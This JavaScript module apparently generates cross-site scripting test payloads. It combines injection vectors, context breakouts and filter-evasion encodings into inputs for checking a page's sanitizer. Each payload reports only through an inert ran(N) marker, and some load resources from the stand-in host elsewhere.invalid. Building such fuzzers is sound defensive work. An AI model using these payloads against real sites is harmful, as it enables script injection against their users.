// Texts that would act in a page that does not guard itself: what could act, put where it could break out of, written in
// each way that a sloppy reader might undo. They are made, not listed, so that each combination of the three is there.
// Whatever acts says so by `ran(N)`; whatever becomes a part of the page carries the attribute `data-planted`.

/** What could act. */
const VECTORS = [
  (n) => `<script data-planted>ran(${n})</script>`,
  (n) => `<img data-planted src=x onerror=ran(${n})>`,
  (n) => `<svg data-planted onload=ran(${n})></svg>`,
  (n) => `<svg data-planted><animate onbegin=ran(${n}) attributeName=x dur=1s>`,
  (n) => `<iframe data-planted srcdoc="&lt;script&gt;parent.ran(${n})&lt;/script&gt;"></iframe>`,
  (n) => `<details data-planted open ontoggle=ran(${n})>x</details>`,
  (n) => `<input data-planted autofocus onfocus=ran(${n})>`,
  (n) => `<a data-planted href="javascript:ran(${n})">x</a>`,
  (n) => `<form data-planted action="javascript:ran(${n})"><button>x</button></form>`,
  (n) => `<object data-planted data="data:text/html,<script>ran(${n})</script>"></object>`,
  (n) => `<style data-planted>*{background:url(//elsewhere.invalid/${n})}</style>`,
  (n) => `<link data-planted rel=stylesheet href=//elsewhere.invalid/${n}>`,
  (n) => `<base data-planted href=//elsewhere.invalid/${n}/>`,
  (n) => `<meta data-planted http-equiv=refresh content="0;url=javascript:ran(${n})">`,
  (n) => `<div data-planted hx-get=/login hx-trigger=load hx-on:load=ran(${n})>x</div>`,
  (n) => `<template data-planted shadowrootmode=open><img src=x onerror=ran(${n})></template>`,
  (n) => `<math data-planted><mtext><img src=x onerror=ran(${n})></math>`,
  (n) => `<video data-planted><source onerror=ran(${n})></video>`,
  (n) => `<x data-planted onmouseover=ran(${n}) style=position:fixed;inset:0>x</x>`,
  (n) => ` data-planted autofocus onfocus=ran(${n}) x=`,
  (n) => `[x](javascript:ran(${n}))`,
  (n) => `![x](javascript:ran(${n}))`,
  (n) => `<javascript:ran(${n})>`,
  (n) => `[x](data:text/html;base64,${Buffer.from(`<script>ran(${n})</script>`).toString("base64")})`,
  (n) => `[x](java\tscript:ran(${n}) "a")`,
  (n) => `\`\`\`<script data-planted>ran(${n})</script>`,
  (n) => `@[x](vbscript:ran(${n}))`,
  (n) => `=HYPERLINK("javascript:ran(${n})","x")`,
];

/** Where a text could break out of. */
const PLACES = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</svg>", "</option></select>", "\"}", "`${", "\n\n", "> - ", "</p></li></td>", "%>", "\u2028"];

/** How it could be written. */
const WRITINGS = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(":", "&colon;"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll("'", "\\x27"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replace(/<([a-z]+) /g, "<$1/"),
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll("javascript", "jAvAsCrIpT").replaceAll("script", "scr\u200bipt"),
];

/** So many payloads, all different, spread over all combinations. */
export function payloads(count) {
  const [wide, high, deep] = [VECTORS.length, PLACES.length, WRITINGS.length];
  const all = wide * high * deep;
  // A stride without a common divisor comes to each combination before one comes twice.
  const stride = 1009;
  return Array.from({ length: count }, (_, n) => {
    const at = (n * stride) % all;
    const [vector, place, writing] = [at % wide, Math.floor(at / wide) % high, Math.floor(at / wide / high)];
    // Plain writing is what acts most easily: every other payload has it.
    return WRITINGS[n % 2 ? writing : 0](PLACES[place] + VECTORS[vector](n));
  });
}
